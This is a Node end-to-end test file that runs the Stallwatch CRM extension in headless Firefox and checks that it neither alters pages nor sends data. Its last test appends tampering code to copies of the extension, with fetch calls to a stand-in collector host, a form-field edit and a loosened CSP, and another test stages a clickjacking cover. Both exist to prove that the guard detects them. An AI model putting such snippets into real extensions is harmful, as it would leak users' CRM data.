// The overlay in real headless Firefox ESR, on the real CRM URLs under the fixtures' strict CSP,
// with the write-nothing guard on every page. Driven by geckodriver over plain W3C WebDriver
// (webdriver.mjs); the fixture pages come from a local HTTPS server (server.mjs). How it works
// and what it checks: docs/firefox.md.
//
// Skips (and says why) when firefox-esr or geckodriver is not installed, unless
// STALLWATCH_REQUIRE_FIREFOX is set: then their absence fails. `bash scripts/setup-firefox.sh`
// installs both.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { appendFileSync, cpSync, existsSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { EXPECTED, ROOT, TRUTH, fillDates } from '../e2e/harness.mjs';
import { assertTrue } from '../e2e/truth-checks.mjs';
import { CRM_HOSTS, GUARD_PATH, startServers } from './server.mjs';
import { Session, startGeckodriver, which } from './webdriver.mjs';

const FIREFOX = process.env.FIREFOX || which('firefox-esr');
const GECKODRIVER = process.env.GECKODRIVER || which('geckodriver');
const REQUIRED = !!process.env.STALLWATCH_REQUIRE_FIREFOX;
/** The unpacked extension under test (an override is for experiments only). */
const EXTENSION_DIR = process.env.STALLWATCH_FIREFOX_EXTENSION || path.join(ROOT, 'dist', 'firefox');

const missing = [!FIREFOX && 'firefox-esr', !GECKODRIVER && 'geckodriver'].filter(Boolean);
const SKIP =
  missing.length && !REQUIRED
    ? `${missing.join(' and ')} not installed (run bash scripts/setup-firefox.sh; set STALLWATCH_REQUIRE_FIREFOX=1 to make this a failure)`
    : false;
if (SKIP) console.log(`Firefox end-to-end test skipped: ${SKIP}`);

const OVERLAY_TIMEOUT = 15_000; // the overlay must have scored within this
const NOT_A_DEAL_WAIT = 3_000; // how long a non-deal page is watched for an overlay

/**
 * Firefox preferences: the CRM hosts resolve to loopback; every other host goes to the
 * recording proxy (which answers nothing); Firefox's own background traffic is off.
 */
function firefoxPrefs(proxyPort) {
  return {
    'network.dns.localDomains': CRM_HOSTS.join(','),
    'network.proxy.type': 1,
    'network.proxy.http': '127.0.0.1',
    'network.proxy.http_port': proxyPort,
    'network.proxy.ssl': '127.0.0.1',
    'network.proxy.ssl_port': proxyPort,
    'network.proxy.no_proxies_on': CRM_HOSTS.join(','),
    // Console messages of content scripts and extension pages go to stdout (geckodriver's log).
    'devtools.console.stdout.content': true,
    // Remote settings: honoured only with MOZ_DISABLE_NONLOCAL_CONNECTIONS=1 (see below).
    'services.settings.server': 'data:,#remote-settings-dummy/v1',
    'app.normandy.enabled': false,
    'messaging-system.rsexperimentloader.enabled': false,
    'toolkit.telemetry.enabled': false,
    'datareporting.policy.dataSubmissionEnabled': false,
    'datareporting.healthreport.uploadEnabled': false,
    'app.update.enabled': false,
    'app.update.auto': false,
    'extensions.update.enabled': false,
    'extensions.getAddons.cache.enabled': false,
    'extensions.systemAddon.update.enabled': false,
    'network.captive-portal-service.enabled': false,
    'network.connectivity-service.enabled': false,
    'network.trr.mode': 5,
    'network.http.speculative-parallel-limit': 0,
    'network.dns.disablePrefetch': true,
    'network.prefetch-next': false,
    'dom.push.connection.enabled': false,
    'browser.shell.checkDefaultBrowser': false,
    'browser.startup.page': 0,
    'browser.startup.homepage_override.mstone': 'ignore',
    'startup.homepage_welcome_url': '',
    'browser.region.network.url': '',
    'browser.region.update.enabled': false,
    'browser.safebrowsing.malware.enabled': false,
    'browser.safebrowsing.phishing.enabled': false,
    'browser.safebrowsing.downloads.enabled': false,
    'browser.safebrowsing.blockedURIs.enabled': false,
    'browser.safebrowsing.update.enabled': false,
    'browser.safebrowsing.provider.mozilla.updateURL': '',
    'media.gmp-manager.url': '',
    'geo.provider.network.url': '',
    'identity.fxaccounts.enabled': false,
    // An optional permission the extension requests (notifications, for reminders) is granted
    // without the doorhanger a person would answer: the test clicks the button, not the prompt.
    'extensions.webextOptionalPermissionPrompts': false,
  };
}

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

/** Packs an unpacked extension directory into a zip and returns it as base64. */
function zipBase64(dir, work) {
  const out = path.join(work, `addon-${Date.now()}.zip`);
  const r = spawnSync('zip', ['-qr', '-X', out, '.'], { cwd: dir, encoding: 'utf8', timeout: 30_000 });
  if (r.status !== 0) throw new Error(`zip failed for ${dir}: ${r.error?.message || r.stderr}`);
  return readFileSync(out).toString('base64');
}

// ---- the browser, shared by every test in this file --------------------------------------

let servers = null;
let driver = null;
let session = null;
let work = null;
let addonId = null;
let mark = { requests: 0, log: 0 }; // where the current page's window starts

async function startFirefox() {
  if (!process.env.STALLWATCH_FIREFOX_EXTENSION && !existsSync(path.join(EXTENSION_DIR, 'manifest.json'))) {
    // Build output goes to stderr, so it cannot be mistaken for the test runner's own output.
    const r = spawnSync('bash', [path.join(ROOT, 'scripts', 'build.sh')], {
      cwd: ROOT,
      stdio: ['ignore', 2, 2],
      timeout: 15 * 60_000,
    });
    if (r.status !== 0) throw new Error(`bash scripts/build.sh failed (${r.error?.message || `exit ${r.status}`})`);
  }
  work = mkdtempSync(path.join(tmpdir(), 'stallwatch-firefox-'));
  servers = await startServers();
  driver = await startGeckodriver(GECKODRIVER, {
    env: {
      MOZ_HEADLESS: '1',
      // Firefox refuses connections to anything but loopback, and (on release builds) honours
      // the remote-settings override above only with this set: measured on ESR 153.
      MOZ_DISABLE_NONLOCAL_CONNECTIONS: '1',
    },
  });
  session = await Session.create(driver.base, {
    alwaysMatch: {
      browserName: 'firefox',
      acceptInsecureCerts: true,
      pageLoadStrategy: 'normal',
      timeouts: { pageLoad: 30_000, script: 10_000, implicit: 0 },
      'moz:firefoxOptions': {
        binary: realpathSync(FIREFOX),
        args: ['-headless'],
        prefs: firefoxPrefs(servers.proxyPort),
      },
    },
  });
  startWindow(); // anything from here on (the install included) is the extension's to answer for
  addonId = await session.installAddon(zipBase64(EXTENSION_DIR, work), { temporary: true });
}

async function stopFirefox() {
  const problems = [];
  for (const step of [
    () => session?.delete(),
    () => driver?.stop(),
    () => servers?.close(),
    () => work && rmSync(work, { recursive: true, force: true }),
  ]) {
    try {
      await step();
    } catch (e) {
      problems.push(e.message);
    }
  }
  session = driver = servers = work = null;
  if (problems.length) console.error(`# Firefox teardown: ${problems.join('; ')}`);
}

function startWindow() {
  mark = { requests: servers.requests.length, log: driver.log.length };
}

/** Opens `url` in the top-level browsing context. */
async function open(url) {
  await session.switchToTop();
  await session.navigate(url);
  assert.equal(await session.currentUrl(), url, 'the fixture page loaded at its real URL');
}

// ---- the write-nothing checks --------------------------------------------------------------

async function guardReport() {
  await session.switchToTop();
  const r = await session.execute('return window.__stallwatchGuard ? window.__stallwatchGuard.report() : null');
  assert.ok(r, `the guard script ${GUARD_PATH} ran in the page`);
  return r;
}

/** Requests since the window started that are not the fixture document, the guard or a favicon. */
function strayRequests(documentUrl) {
  const doc = new URL(documentUrl);
  let documents = 0;
  const stray = [];
  for (const r of servers.requests.slice(mark.requests)) {
    if (r.via === 'https' && r.method === 'GET') {
      const u = new URL(r.url);
      if (u.origin === doc.origin && u.pathname === doc.pathname && u.search === doc.search && documents++ === 0) continue;
      if (u.origin === doc.origin && (u.pathname === GUARD_PATH || u.pathname === '/favicon.ico')) continue;
    }
    stray.push(`${r.via === 'proxy' ? 'via proxy: ' : ''}${r.method} ${r.url}`);
  }
  return stray;
}

/**
 * Errors Firefox printed since the window started: console.error from content scripts and
 * extension pages, and uncaught JavaScript errors. Firefox's own internals (resource:// and
 * chrome:// code) are not the extension's and are left out.
 */
function firefoxErrors() {
  return driver.log
    .slice(mark.log)
    .filter((l) => /^(console\.error:|JavaScript error:)/.test(l))
    .filter((l) => l.includes('moz-extension://') || !/(resource|chrome):\/\//.test(l));
}

/** Everything that breaks the write-nothing promise on the current page, as a list. */
async function breaches(documentUrl) {
  const r = await guardReport();
  const out = [];
  if (!r.started) out.push('guard: never started (no DOMContentLoaded?)');
  if (r.overlayAtStart) out.push('guard: the overlay was already mounted when the guard started watching');
  for (const m of r.mutations) out.push(`host page mutated: ${m}`);
  for (const i of r.inputs) out.push(`host form control changed: ${i}`);
  for (const e of r.errors) out.push(`page: ${e}`);
  for (const q of strayRequests(documentUrl)) out.push(`request: ${q}`);
  for (const e of firefoxErrors()) out.push(`Firefox: ${e}`);
  return out;
}

async function assertUntouched(documentUrl) {
  assert.deepEqual(await breaches(documentUrl), [], `the page was left untouched and nothing was sent (${documentUrl})`);
}

// ---- the overlay ---------------------------------------------------------------------------

/**
 * Waits for the badge the content script draws in our container's closed shadow root, clicks
 * it as the rep would (the card's frame exists only once opened), waits until the frame shows
 * a score, and leaves the session switched into that frame. WebDriver reaches the closed root
 * with Get Element Shadow Root (Firefox returns closed roots too) and enters the frame with
 * Switch To Frame by element reference. Returns the frame's URL and the badge's number.
 */
async function enterOverlay() {
  const deadline = Date.now() + OVERLAY_TIMEOUT;
  let seen = 'no Stallwatch container';
  let badgeNumber = null;
  for (;;) {
    await session.switchToTop();
    const hosts = await session.findElements('css selector', '[data-stallwatch-overlay]');
    assert.ok(hosts.length <= 1, `one overlay container at most (found ${hosts.length})`);
    if (hosts.length === 1) {
      const shadow = await session.elementShadowRoot(hosts[0]);
      const frames = await session.findElementsFromShadowRoot(shadow, 'css selector', 'iframe');
      const [badge] = await session.findElementsFromShadowRoot(shadow, 'css selector', 'button[data-testid="stall-badge"]');
      if (frames.length === 0 && badge && (await session.elementDisplayed(badge))) {
        badgeNumber = (await session.elementText(badge)).split(/\s+/).pop();
        await session.elementClick(badge);
        seen = `badge ${JSON.stringify(badgeNumber)} clicked, no card frame yet`;
      } else if (frames.length !== 1) {
        seen = badge ? 'a badge not shown yet (not scored)' : `no badge, ${frames.length} iframes in the shadow root`;
      } else {
        const src = await session.elementAttribute(frames[0], 'src');
        assert.match(src, /^moz-extension:\/\/[0-9a-f-]+\/overlay\.html$/, 'the overlay is our extension page');
        await session.switchToFrame(frames[0]);
        const state = await session.execute(
          `const app = document.getElementById('app');
           return {
             url: location.href,
             ready: document.readyState,
             scored: !!document.querySelector('[data-testid="stall-score"]'),
             app: app ? app.textContent.trim().slice(0, 300) : null,
           };`,
        );
        if (state.scored) return { src, badgeNumber };
        seen = `iframe ${src} loaded (${state.ready}) but shows no score; #app text: ${JSON.stringify(state.app)}`;
      }
    }
    if (Date.now() > deadline) {
      await session.switchToTop();
      // Console lines from content scripts and extension pages (not Firefox's own internals).
      const log = driver.log
        .slice(mark.log)
        .filter((l) => /^(console\.\w+:|JavaScript (error|warning):)/.test(l))
        .filter((l) => l.includes('moz-extension://') || !/(resource|chrome):\/\//.test(l));
      throw new assert.AssertionError({
        message:
          `no scored Stallwatch overlay within ${OVERLAY_TIMEOUT} ms: ${seen}.\n` +
          `Extension console output since the page opened: ${log.length ? `\n${log.join('\n')}` : '(none)'}`,
      });
    }
    await sleep(250);
  }
}

/** What the overlay shows, read inside its frame. */
function readOverlay() {
  return session.execute(`
    const text = (el) => (el ? el.textContent.trim() : null);
    const fields = {};
    for (const li of document.querySelectorAll('[data-testid="read-field"]')) {
      fields[li.dataset.field] = text(li.querySelector('[data-testid="read-value"]'));
    }
    const parsed = document.querySelector('[data-testid="read-parsed"]');
    return {
      score: text(document.querySelector('[data-testid="stall-score"]')),
      reasons: [...document.querySelectorAll('[data-testid="stall-reason"]')].map((e) => e.dataset.code),
      fields,
      parsed: parsed ? JSON.parse(parsed.dataset.json) : null,
      state: document.querySelector('[data-state]')?.dataset.state ?? null,
      confidence: [...document.querySelectorAll('[data-testid="confidence"]')].map((e) => e.textContent).join(' '),
    };`);
}

function assertScore(text) {
  assert.match(text ?? '', /^\d{1,3}$/, `the score is an integer (got ${JSON.stringify(text)})`);
  const n = Number(text);
  assert.ok(n >= 0 && n <= 100, `the score is within 0–100 (got ${n})`);
  return n;
}

/**
 * Runs the overlay checks, then always returns to the top frame, so that the write-nothing
 * checks run on every page even when the overlay failed; `rethrow()` reports the overlay's
 * failure after them.
 */
async function attempt(checks) {
  let error = null;
  try {
    await checks();
  } catch (e) {
    error = e;
  } finally {
    await session.switchToTop();
  }
  return {
    rethrow() {
      if (error) throw error;
    },
  };
}

// ---- the tests -----------------------------------------------------------------------------

const SUITE = 'Stallwatch in Firefox ESR (headless, geckodriver)';
// Skipped as one test (counted as skipped by the runner), never as a pass; required but
// absent, one failing test that says what to install.
if (SKIP) test(SUITE, { skip: SKIP }, () => {});
else if (missing.length) {
  test(SUITE, () => {
    assert.fail(`STALLWATCH_REQUIRE_FIREFOX is set but ${missing.join(' and ')} is not installed: run bash scripts/setup-firefox.sh`);
  });
} else describe(SUITE, () => {
  before(startFirefox, { timeout: 17 * 60_000 }); // a build, if dist/firefox is missing
  after(stopFirefox, { timeout: 30_000 });

  test('Salesforce opportunity: the overlay scores the follow-up trap under the strict CSP', { timeout: 60_000 }, async () => {
    const fixture = 'salesforce/opportunity.html';
    const { url } = EXPECTED[fixture];
    await open(url);
    const overlay = await attempt(async () => {
      const { badgeNumber } = await enterOverlay();
      const shown = await readOverlay();
      assertScore(shown.score);
      assert.equal(badgeNumber, shown.score, 'the badge drawn in the page showed the card\'s number');
      for (const code of ['follow_up_trap', 'silence']) {
        assert.ok(shown.reasons.includes(code), `reason ${code} shown (got ${shown.reasons})`);
      }
      assert.equal(shown.fields.name, EXPECTED[fixture].fields.name, 'the deal name it read');
    });
    await assertUntouched(url); // its window opened before the add-on was installed
    overlay.rethrow();
  });

  test('HubSpot deal: the overlay scores the deal and reads its name', { timeout: 60_000 }, async () => {
    const fixture = 'hubspot/deal.html';
    const { url } = EXPECTED[fixture];
    startWindow();
    await open(url);
    const overlay = await attempt(async () => {
      await enterOverlay();
      const shown = await readOverlay();
      assertScore(shown.score);
      assert.equal(shown.fields.name, EXPECTED[fixture].fields.name, 'the deal name it read');
    });
    await assertUntouched(url);
    overlay.rethrow();
  });

  // Pages shaped like the evidence: native shadow at every Salesforce LWC host with day-first
  // dates, and HubSpot's 2025-26 French record page with its accessibility copies.
  for (const fixture of ['salesforce/opportunity-gb-native.html', 'hubspot/deal-2026-fr.html']) {
    test(`${fixture}: what the overlay understood`, { timeout: 60_000 }, async () => {
      const { url, parsed } = EXPECTED[fixture];
      startWindow();
      await open(url);
      const overlay = await attempt(async () => {
        await enterOverlay();
        const shown = await readOverlay();
        assertScore(shown.score);
        assert.deepEqual(shown.parsed, JSON.parse(fillDates(JSON.stringify(parsed))), 'read-parsed');
      });
      await assertUntouched(url);
      overlay.rethrow();
    });
  }

  // Issue 21's evidence-built pages: what was understood is exactly what a person reads there
  // (expected.json, derived from truth-21.json), and everything the card states is true
  // (tests/e2e/truth-checks.mjs, shared with the Chromium suite).
  test("issue 21's pages: what the card understood and states is true", { timeout: 5 * 60_000 }, async () => {
    for (const [file, t] of Object.entries(TRUTH)) {
      startWindow();
      await open(t.url);
      const overlay = await attempt(async () => {
        await enterOverlay();
        const shown = await readOverlay();
        assertScore(shown.score);
        assert.deepEqual(shown.parsed, JSON.parse(fillDates(JSON.stringify(EXPECTED[file].parsed))), `${file}: read-parsed`);
        assertTrue(file, t, { parsed: shown.parsed, codes: shown.reasons, state: shown.state, confidence: shown.confidence });
      });
      await assertUntouched(t.url);
      overlay.rethrow();
    }
  });

  // Issue 27: a cover the page lifts when the rep presses (the press moves focus into the
  // card's frame, the page's window blurs) must not let the click through (Firefox has no
  // IntersectionObserver v2: the content script's sampled checks catch it).
  test('a cover the page lifts at the moment of the press is refused', { timeout: 120_000 }, async () => {
    const { url } = EXPECTED['salesforce/opportunity.html'];
    startWindow();
    await open(url);
    const overlay = await attempt(async () => {
      await enterOverlay();
      await sleep(700);
      await session.switchToTop();
      await session.execute(`window.__stallwatchGuard.asHost(() => {
        const cover = document.createElement('div');
        cover.id = 'bait';
        cover.textContent = 'Pick your language to continue';
        cover.style.cssText = 'position:fixed;top:0;right:0;width:600px;height:700px;background:#fff;z-index:2147483647;pointer-events:none';
        document.documentElement.append(cover);
        const lift = () => window.__stallwatchGuard.asHost(() => cover.remove());
        window.addEventListener('blur', lift, { once: true });
        document.addEventListener('pointerdown', lift, { capture: true, once: true });
      });`);
      await sleep(300);
      await enterOverlay();
      const chip = async () => (await session.findElements('css selector', '[data-action="language"][data-lang="fr"]'))[0];
      const state = () =>
        session.execute(`return {
          refused: document.getElementById('app').dataset.refused || null,
          lang: document.querySelector('[data-testid="message-language"]')?.dataset.lang ?? null,
        };`);
      await session.elementClick(await chip());
      let shown = await state();
      for (let i = 0; i < 40 && !shown.refused; i++) {
        await sleep(100);
        shown = await state();
      }
      assert.equal(shown.refused, 'recently-covered', 'the click was refused');
      assert.equal(shown.lang, 'en', 'the drafts did not switch');
      await session.switchToTop();
      assert.equal(await session.execute(`return document.getElementById('bait')`), null, 'the page did lift its cover');
      // Near-miss: in plain view for a moment, the same click acts.
      await enterOverlay();
      await sleep(700);
      await session.elementClick(await chip());
      for (let i = 0; i < 40 && shown.lang !== 'fr'; i++) {
        await sleep(100);
        shown = await state();
      }
      assert.equal(shown.lang, 'fr', 'the click acted');
      assert.equal(shown.refused, null);
    });
    await assertUntouched(url);
    overlay.rethrow();
  });

  // Issue 27: the memory's limit holds as it is written, and a list never evicts a deal the rep
  // opened (Firefox's storage and background page, as the rep has them).
  test('three 400-row list views leave at most 300 remembered deals, every opened one among them', { timeout: 180_000 }, async () => {
    const opened = ['salesforce/opportunity.html', 'hubspot/deal.html'];
    for (const f of opened) {
      startWindow();
      await open(EXPECTED[f].url);
      const overlay = await attempt(() => enterOverlay());
      await assertUntouched(EXPECTED[f].url);
      overlay.rethrow();
    }
    const list = EXPECTED['hubspot/deals-table.html'];
    const portal = new URL(list.url).pathname.split('/')[2];
    startWindow();
    await open(list.url);
    const seenKeys = async () => {
      await enterOverlay();
      const keys = await session.executeAsync(`const done = arguments[arguments.length - 1];
        browser.storage.local.get(null).then((all) => done(Object.keys(all).filter((k) => k.startsWith('seen:'))), (e) => done([String(e)]));`);
      await session.switchToTop();
      return keys;
    };
    const overlay = await attempt(async () => {
      for (const batch of [1, 2, 3]) {
        await session.switchToTop();
        await session.execute(`window.__stallwatchGuard.asHost(() => {
          const body = document.querySelector('tbody');
          const model = body.querySelector('tr[data-test-id^="row-"]');
          const oldId = model.dataset.testId.slice(4);
          const rows = [];
          for (let i = 0; i < 400; i++) {
            const id = String(90000000000 + ${batch} * 1000 + i);
            const tr = model.cloneNode(true);
            tr.dataset.testId = 'row-' + id;
            for (const el of tr.querySelectorAll('[data-table-external-id]')) el.dataset.tableExternalId = el.dataset.tableExternalId.replace(oldId, id);
            for (const a of tr.querySelectorAll('a[href]')) a.setAttribute('href', a.getAttribute('href').replace(oldId, id));
            rows.push(tr);
          }
          body.replaceChildren(...rows);
        });`);
        const last = `seen:hs:${portal}:${90000000000 + batch * 1000 + 399}`;
        let keys = [];
        for (let i = 0; i < 120 && !(keys.includes(last) && keys.length <= 300); i++) {
          await sleep(250);
          keys = await seenKeys();
        }
        assert.ok(keys.includes(last), `batch ${batch} remembered`);
        assert.ok(keys.length <= 300, `${keys.length} remembered after batch ${batch}`);
        for (const k of ['seen:sf:acme:0065g00000XyZ12', 'seen:hs:123:456']) assert.ok(keys.includes(k), `${k} (opened) still remembered after batch ${batch}`);
      }
    });
    await assertUntouched(list.url);
    overlay.rethrow();
  });

  // Issue 27, item 7: the structure report, run in Firefox's DOM as the content script runs it
  // (with the read plans), keeps no single word the page made.
  test('the structure report keeps the structure and no word of the page', { timeout: 60_000 }, async () => {
    const { url } = EXPECTED['salesforce/opportunity.html'];
    startWindow();
    await open(url);
    await session.execute(`window.__stallwatchGuard.asHost(() => {
      const probe = document.createElement('section');
      probe.id = 'probe';
      const box = probe.appendChild(document.createElement('zelda-card'));
      box.className = 'quarterfield slds-card';
      box.dataset.testId = 'zelda';
      box.setAttribute('role', 'zeldarole');
      const a = box.appendChild(document.createElement('a'));
      a.href = '/lightning/r/Quarterfield__c/a005g00000XyZ12AAB/view';
      a.textContent = 'Zelda Quarterfield';
      document.body.append(probe);
    });`);
    const source = ['dist/read_plan.js', 'extension/page_structure.js'].map((f) => readFileSync(path.join(ROOT, f), 'utf8')).join('\n');
    const report = await session.execute(`${source}\n;return globalThis.STALLWATCH_STRUCTURE.report({ hits: {} });`);
    for (const s of ['Zelda', 'zelda', 'Quarterfield', 'quarterfield']) assert.ok(!report.includes(s), `the report shows ${s}`);
    assert.ok(report.includes('[tag].[c].slds-card[data-test-id="[v]"][role="[v]"]'), report.slice(0, 2000));
    assert.ok(report.includes('[href="/lightning/r/[x]/[a00 id]/view"]'));
    assert.match(report, /\[data-target-selection-name="sfdc:RecordField\.Opportunity\.Amount"\]/, 'our hooks stay');
    assert.match(report, /records-highlights2/);
    await assertUntouched(url);
  });

  // Issue 22: the one-click correction and "since you last looked" on two visits, in Firefox.
  test('a reason corrected in one click, undone, and "since you last looked" on a second visit', { timeout: 120_000 }, async () => {
    const { url } = EXPECTED['salesforce/opportunity.html'];
    const storage = (script) => session.executeAsync(`const done = arguments[arguments.length - 1];
      (async () => { ${script} })().then(done, (e) => done('error: ' + e));`);
    const click = async (css) => session.elementClick(await session.findElement('css selector', css));
    const until = async (script, what) => {
      for (let i = 0; i < 60; i++) {
        const v = await session.execute(script);
        if (v) return v;
        await sleep(250);
      }
      throw new assert.AssertionError({ message: `timed out waiting for ${what}` });
    };
    startWindow();
    await open(url);
    let overlay = await attempt(async () => {
      await enterOverlay();
      await storage('await browser.storage.local.clear(); return true;');
    });
    await assertUntouched(url);
    overlay.rethrow();

    startWindow();
    await open(url);
    overlay = await attempt(async () => {
      await enterOverlay();
      const before = await readOverlay();
      const code = before.reasons[0];
      assert.ok(code, 'the fixture has reasons');
      await click(`[data-testid="stall-reason"][data-code="${code}"] [data-testid="not-right"]`);
      await until(`return !!document.querySelector('[data-testid="correct-choices"]')`, 'the choices');
      await click(`[data-testid="stall-reason"][data-code="${code}"] [data-testid="correct-not_this_deal"]`);
      const said = await until(
        `return document.querySelector('[data-testid="corrected-reason"][data-code="${code}"] [data-testid="you-said"]')?.textContent`,
        'the struck reason',
      );
      assert.match(said, /^You said this doesn't apply to this deal/);
      const after = await readOverlay();
      assert.ok(!after.reasons.includes(code), after.reasons.join(','));
      const stored = await storage(`return (await browser.storage.local.get('notes:sf:acme:0065g00000XyZ12'))['notes:sf:acme:0065g00000XyZ12'];`);
      assert.deepEqual(stored.corrections.map((c) => c.said), ['not_this_deal']);
      await click(`[data-testid="corrected-reason"][data-code="${code}"] [data-testid="undo-correction"]`);
      await until(`return !!document.querySelector('[data-testid="stall-reason"][data-code="${code}"]')`, 'the reason back');
      assert.equal((await readOverlay()).score, before.score);
      // The first visit "three days ago", the close date a week later then.
      const shifted = await storage(`const k = 'seen:sf:acme:0065g00000XyZ12';
        const e = (await browser.storage.local.get(k))[k];
        if (!e) return null;
        const shift = (iso, days) => { const d = new Date(iso + 'T00:00:00Z'); d.setUTCDate(d.getUTCDate() + days); return d.toISOString().slice(0, 10); };
        e.seen_ms -= 3 * 86400000; e.seen_day = shift(e.seen_day, -3);
        e.deal.close_date = shift(e.deal.close_date, 7);
        await browser.storage.local.set({ [k]: e });
        return e.deal.close_date;`);
      assert.ok(shifted, 'the first visit was remembered');
    });
    await assertUntouched(url);
    overlay.rethrow();

    startWindow();
    await open(url);
    overlay = await attempt(async () => {
      await enterOverlay();
      const line = await until(`return document.querySelector('[data-testid="since-looked"]')?.textContent`, 'the since line');
      assert.match(line, /^Since you last looked \(3 days ago, .*close date moved earlier, /);
    });
    await assertUntouched(url);
    overlay.rethrow();
  });

  test('Salesforce contact (not a deal): no overlay at all', { timeout: 30_000 }, async () => {
    const fixture = 'salesforce/contact.html';
    const { url } = EXPECTED[fixture];
    assert.equal(EXPECTED[fixture].must_not_show, true);
    startWindow();
    await open(url);
    await sleep(NOT_A_DEAL_WAIT);
    assert.deepEqual(await session.findElements('css selector', '[data-stallwatch-overlay]'), [], 'no Stallwatch container');
    await assertUntouched(url);
  });

  test('reminders: turned on from the options page, a snooze that ends shows a notification for the deal', { timeout: 60_000 }, async () => {
    const { url } = EXPECTED['hubspot/deal.html'];
    startWindow();
    await open(url);
    let origin = null;
    const overlay = await attempt(async () => {
      // (Node's URL gives no origin for moz-extension: URLs.)
      origin = (await enterOverlay()).src.replace(/\/overlay\.html.*$/, '');
    });
    await assertUntouched(url); // the visit also made Stallwatch remember the deal
    overlay.rethrow();

    // WebDriver may not navigate to an extension page; the card's frame (ours) opens it in a
    // window of its own, as a link in it would.
    const before = await session.windowHandles();
    await enterOverlay(); // the card is open: back into its frame
    await session.execute(`window.open(${JSON.stringify(`${origin}/options.html`)}, '_blank')`);
    let handle = null;
    for (let i = 0; i < 50 && !handle; i++) {
      handle = (await session.windowHandles()).find((h) => !before.includes(h)) ?? null;
      if (!handle) await sleep(100);
    }
    assert.ok(handle, 'the options page opened');
    const main = before[0];
    await session.switchToWindow(handle);
    const find = async (css) => {
      for (let i = 0; i < 50; i++) {
        const [el] = await session.findElements('css selector', css);
        if (el) return el;
        await sleep(100);
      }
      throw new Error(`${css} never appeared`);
    };
    await session.elementClick(await find('[data-testid="options-reminders-on"]'));
    await find('[data-testid="options-reminders-off"]');
    assert.equal(await session.elementProperty(await find('[data-testid="reminders-status"]'), 'textContent'), 'Reminders are on.');

    const result = await session.executeAsync(`
      const done = arguments[arguments.length - 1];
      const DAY = 86400000;
      const at = Date.now() + 2 * DAY;
      const d = new Date(at);
      const iso = d.getFullYear() + '-' + String(d.getMonth() + 1).padStart(2, '0') + '-' + String(d.getDate()).padStart(2, '0');
      (async () => {
        await browser.storage.local.set({ 'notes:hs:123:456': { snooze_until: iso, snooze_reason: 'after their board meeting', changed: { snooze_until: Date.now() } } });
        const run = await browser.runtime.sendMessage({ type: 'stallwatch:reminders-run', now: at });
        const again = await browser.runtime.sendMessage({ type: 'stallwatch:reminders-run', now: at + 3600000 });
        return { iso, run, again };
      })().then(done, (e) => done({ error: String(e) }));`);
    assert.equal(result.error, undefined, result.error);
    assert.equal(result.run.shown, true, JSON.stringify(result.run));
    const id = `snooze:hs:123:456:${result.iso}`;
    assert.deepEqual(result.run.due.map((r) => r.id), [id]);
    // The browser took the notification (create resolved with its id). Headless Firefox has no
    // notification area, so notifications.getAll() is already empty by then: not checked.
    assert.deepEqual(result.run.created, [`stallwatch:${id}`], 'the browser took the notification');
    assert.deepEqual(result.again.due, [], 'shown once');
    await session.executeAsync(`const done = arguments[arguments.length - 1];
      browser.notifications.clear('stallwatch:${id}').then(() => browser.storage.local.clear()).then(() => done(true));`);
    await session.closeWindow();
    await session.switchToWindow(main);
  });

  // The guard must be able to fail, or every check above passes vacuously: a tampered copy of
  // the extension breaks each promise once, and each breach must be reported.
  test('the guard catches a tampered extension', { timeout: 60_000 }, async () => {
    const dir = mkdtempSync(path.join(work, 'tampered-'));
    cpSync(EXTENSION_DIR, dir, { recursive: true });
    appendFileSync(
      path.join(dir, 'content.js'),
      `\n;setTimeout(() => {
        document.body.setAttribute('data-tampered', '1');
        const box = document.querySelector('textarea, input');
        if (box) box.value += ' (edited)';
        fetch('https://acme.lightning.force.com/collect?x=1').catch(() => {});
        fetch('https://collector.stallwatch.invalid/collect?x=2').catch(() => {}); // page CSP blocks this
        console.error('tampered content script error');
      }, 200);\n`,
    );
    // The background (which scores every badge) and the overlay (the card, once opened) are
    // extension pages: the page's CSP does not bind them, and the tampered copy also loosens the
    // extension's own CSP to scripts only (the full one would stop these requests in the
    // browser; the Chromium suite's attacks.test.mjs shows that it does), so they leave.
    const manifestPath = path.join(dir, 'manifest.json');
    const manifest = JSON.parse(readFileSync(manifestPath, 'utf8'));
    manifest.content_security_policy = { extension_pages: "script-src 'self' 'wasm-unsafe-eval'" };
    writeFileSync(manifestPath, JSON.stringify(manifest));
    appendFileSync(
      path.join(dir, 'overlay.js'),
      `\nfetch('https://collector.stallwatch.invalid/collect?x=3').catch(() => {});
      setTimeout(() => { throw new Error('tampered overlay error'); }, 0);\n`,
    );
    appendFileSync(
      path.join(dir, 'background.js'),
      // When this page's badge is asked for (the background started before the page).
      `\nchrome.runtime.onMessage.addListener(() => {
        fetch('https://collector.stallwatch.invalid/collect?x=4').catch(() => {});
        setTimeout(() => { throw new Error('tampered background error'); }, 0);
      });\n`,
    );
    await session.cmd('POST', '/moz/addon/uninstall', { id: addonId });
    addonId = await session.installAddon(zipBase64(dir, work), { temporary: true });

    const { url } = EXPECTED['salesforce/opportunity.html'];
    startWindow();
    await open(url);
    // The card opened, so the tampered overlay runs too.
    await enterOverlay().catch(() => {});
    await session.switchToTop();
    let found = [];
    const deadline = Date.now() + 10_000;
    const want = [
      /^host page mutated: attribute data-tampered on body/,
      /^host form control changed: .*\(edited\)/,
      /^request: GET https:\/\/acme\.lightning\.force\.com\/collect\?x=1$/,
      /^page: CSP violation: connect-src blocked https:\/\/collector\.stallwatch\.invalid\/collect\?x=2$/,
      /^request: via proxy: CONNECT collector\.stallwatch\.invalid:443$/,
      /^Firefox: console\.error: .*tampered content script error/,
      /^Firefox: JavaScript error: moz-extension:\/\/[^ ]*\/overlay\.js, .*tampered overlay error/,
      /^Firefox: JavaScript error: moz-extension:\/\/[^ ]*\/background\.js, .*tampered background error/,
    ];
    while (Date.now() < deadline) {
      found = await breaches(url);
      if (want.every((w) => found.some((f) => w.test(f)))) break;
      await sleep(250);
    }
    for (const w of want) assert.ok(found.some((f) => w.test(f)), `breach ${w} reported (got ${JSON.stringify(found, null, 1)})`);
  });
});

// Whatever happens above, Firefox and geckodriver must not outlive the test process.
process.once('exit', () => {
  if (driver) driver.stop();
});
